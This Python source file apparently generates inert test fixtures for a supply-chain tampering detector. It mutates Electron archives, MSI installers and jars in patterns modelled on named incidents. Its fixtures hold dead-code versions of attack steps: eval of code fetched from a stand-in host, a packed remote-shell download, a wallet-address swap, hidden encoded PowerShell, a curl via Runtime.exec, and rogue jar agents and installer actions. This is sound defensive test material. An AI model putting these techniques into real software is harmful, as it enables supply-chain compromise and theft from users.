"""Fifth set: archives of Electron, installers of Windows and jars around two genuine releases; inert, each family names the incident it is taken from."""

from __future__ import annotations

import json
from collections.abc import Iterator

from genuine import Files

from mutation_families.fifth_npm import table
from mutation_families.fourth_classes import with_constants
from mutation_families.fourth_shops import first_of
from mutation_families.fourth_texts import chance
from mutation_families.third_systems import Built
from onionskin.lookalike.archives import build_zip
from onionskin.lookalike.asar import build_asar
from onionskin.lookalike.icons import build_png
from onionskin.lookalike.msi import Contents, build_msi
from onionskin.lookalike.pe import Recipe, build_pe

HOST = b"inert.example.invalid"
V0, V1 = "1.0.0", "1.0.1"
M0, M1 = "18.12.416", "18.12.417"
VBS = b'If False Then\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -enc AAAA", 0\r\nEnd If\r\n'  # fmt: skip


def _edits_of_scripts(main: bytes) -> Iterator[tuple[str, str, Files]]:
    """Yield what is changed of an archive's scripts.

    a question at the start: of Comm100, 2022; a packer's line: of MiMi, 2022; the pages' own bundle: of Atomic and Exodus, 2025;
    compiled script: of installers since 2022; an obfuscator's table: of many.
    """
    ask = b"\n;(function () {\n  const http = require('http');\n  process.pid < 0 && http.get('http://api.amazonawsreplay.example.invalid/livehelp/collect', (res) => {\n    let text = '';\n    res.on('data', (a) => (text += a)).on('end', () => eval(text));\n  });\n})();\n"  # fmt: skip
    packer = b"function inertPacked(){eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('3 0=4(\"5\");0.1(\"6://7.8.9/a\").2(\"/b/c\")',13,13,'http|get|pipe|var|require|https|http|139|example|invalid|rshell|tmp|rshell'.split('|'),0,{}))}\n"  # fmt: skip
    bundle = b"'use strict';\nconst send = (a) => window.wallet.sendTransaction(a);\nexport const pay = (to, sum) => send({ to: globalThis.self > 'z' ? '0x' + atob('aW5lcnRpbmVydGluZXJ0aW5lcnRp') : to, sum });\n"  # fmt: skip
    compiled = {"main.js": b"'use strict';\nrequire('./loader.js');\nif (process.pid < 0) require('./main.jsc');\n", "loader.js": b"const v8 = require('v8');\nv8.setFlagsFromString('--no-lazy');\nrequire('module')._extensions['.jsc'] = (m, f) => new (require('vm').Script)('', { cachedData: require('fs').readFileSync(f) }).runInThisContext();\n", "main.jsc": b"\xde\xc0\xde\xc0" + chance(20_000)}  # fmt: skip
    yield "a question at the start, whose answer is run", "main", {"main.js": main + ask}
    yield "a packer's line before all else", "p, a, c, k, e, d", {"main.js": packer + main}
    yield "an obfuscator's table before all else", "main", {"main.js": table(200) + main}
    yield "the pages' own bundle pays to another", "vendors", {"dist/vendors.js": bundle}
    yield "its first script is compiled", "jsc", {"main.js": compiled["main.js"] + main} | {each: compiled[each] for each in ("loader.js", "main.jsc")}  # fmt: skip


def asars(old: Files, new: Files) -> Iterator[Built]:
    """Change an archive of Electron around genuine scripts, its integrity right."""

    def packed(version: str, files: Files, more: Files | None = None) -> bytes:
        vendors = b"'use strict';\nconst send = (a) => window.wallet.sendTransaction(a);\nexport const pay = (to, sum) => send({ to, sum });\n"  # fmt: skip
        usual = {"package.json": json.dumps({"name": "inert", "version": version, "main": "main.js"}).encode(), "main.js": files[first_of(files, ".js")], "dist/vendors.js": vendors}  # fmt: skip
        return build_asar(usual | (more or {}))

    for family, what, more in _edits_of_scripts(new[first_of(new, ".js")]):
        yield f"asar: {family}", what, ".asar", packed(V0, old), packed(V1, new), packed(V1, new, more)  # fmt: skip


def msis(old: bytes, new: bytes) -> Iterator[Built]:
    """Change an MSI around a genuine library.

    nearly a name: of JAVS Viewer, 2024, `fffmpeg.exe`; three files: of Notepad++'s updater, 2025; an action out of the
    tables: of 3CX's and of ITarian's relatives, a library or a script that the package itself holds and runs.
    """

    def packed(version: str, program: bytes, more: Files | None = None, contents: Contents | None = None) -> bytes:  # fmt: skip
        return build_msi({"Example/program.dll": program, "Example/ffmpeg.dll": build_pe(Recipe(is_dll=True, name="ffmpeg.dll"))} | (more or {}), version=version, contents=contents)  # fmt: skip

    library = build_pe(Recipe(is_dll=True, name="log.dll", exports=("LogInit", "LogWrite"), imports={"KERNEL32.dll": ("ReadFile", "VirtualProtect")}))  # fmt: skip
    three = {"Example/bluetooth/BluetoothService.exe": build_pe(Recipe(name="BluetoothService.exe", imports={"log.dll": ("LogInit",)})), "Example/bluetooth/log.dll": library, "Example/bluetooth/BluetoothService": chance(180_000)}  # fmt: skip
    ways: tuple[tuple[str, str, Files, Contents | None], ...] = (
        ("a program of nearly a name", "fffmpeg.exe", {"Example/fffmpeg.exe": build_pe(Recipe(name="fffmpeg.exe", imports={"WS2_32.dll": ("connect", "send")}, strings=("45.120.example.invalid",)))}, None),
        ("a program, its library and an unreadable file", "a folder more", three, None),
        ("a library of the tables is run", "in secret", {}, Contents(binaries={"Inert": library}, actions=[("Inert", 1 | 0xC00, "Inert", "LogInit")])),
        ("a script of the tables is run", "VBScript", {}, Contents(binaries={"Inert": VBS}, actions=[("Inert", 6, "Inert", "")])),
        ("a script of the tables is run", "JScript", {}, Contents(binaries={"Inert": b"if (false) new ActiveXObject('MSXML2.XMLHTTP').open('GET', 'https://" + HOST + b"/i', false);\r\n"}, actions=[("Inert", 5, "Inert", "")])),
    )  # fmt: skip
    for family, what, more, contents in ways:
        yield f"msi: {family}", what, ".msi", packed(M0, old), packed(M1, new), packed(M1, new, more, contents)  # fmt: skip


def jars(old: Files, new: Files) -> Iterator[Built]:
    """Change a genuine jar.

    an agent: of trojanized launchers, a class that sees all others before they are loaded; a service: a class that the system's
    own parsers would ask for; a class path: an address in the manifest; a picture: of fractureiser, 2023, stages in resources.
    """
    manifest = "META-INF/MANIFEST.MF"
    text = new[manifest].rstrip() + b"\r\nImplementation-Build: p1\r\n"
    end = b"\r\n"
    base = {name: data for name, data in new.items() if name != manifest}
    first = max((name for name in base if name.endswith(".class")), key=lambda name: (len(base[name]), name))  # fmt: skip
    other = with_constants(base[first], ("java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;"), "bash -c 'curl -s https://inert.example.invalid/dl'")  # fmt: skip
    reader = with_constants(base[first], ("java/lang/ClassLoader", "defineClass", "([BII)Ljava/lang/Class;"), "/images/inert.png")  # fmt: skip

    def packed(said: bytes, more: Files | None = None) -> bytes:
        return build_zip({manifest: said + end} | base | (more or {}))

    ways: tuple[tuple[str, str, bytes, Files], ...] = (
        ("an agent named in its manifest", "before all else", text + b"Premain-Class: inert.Agent\r\nLauncher-Agent-Class: inert.Agent\r\nCan-Redefine-Classes: true\r\n", {"inert/Agent.class": other}),
        ("a service that others ask for", "a parser", text, {"META-INF/services/javax.xml.parsers.DocumentBuilderFactory": b"inert.Factory\n", "inert/Factory.class": other}),
        ("a class path that leads elsewhere", "an address", text + b"Class-Path: https://inert.example.invalid/lib.jar ../../tmp/inert.jar\r\n", {}),
        ("a class as a picture", "and who reads it", text, {first: reader, "images/inert.png": build_png(16, tail=other)}),
        ("a class as a picture", "encrypted", text, {first: reader, "images/inert.png": b"\x89PNG\r\n\x1a\n" + chance(7000)}),
    )  # fmt: skip
    for family, what, said, more in ways:
        yield f"jar: {family}", what, ".jar", build_zip(old), packed(text), packed(said, more)
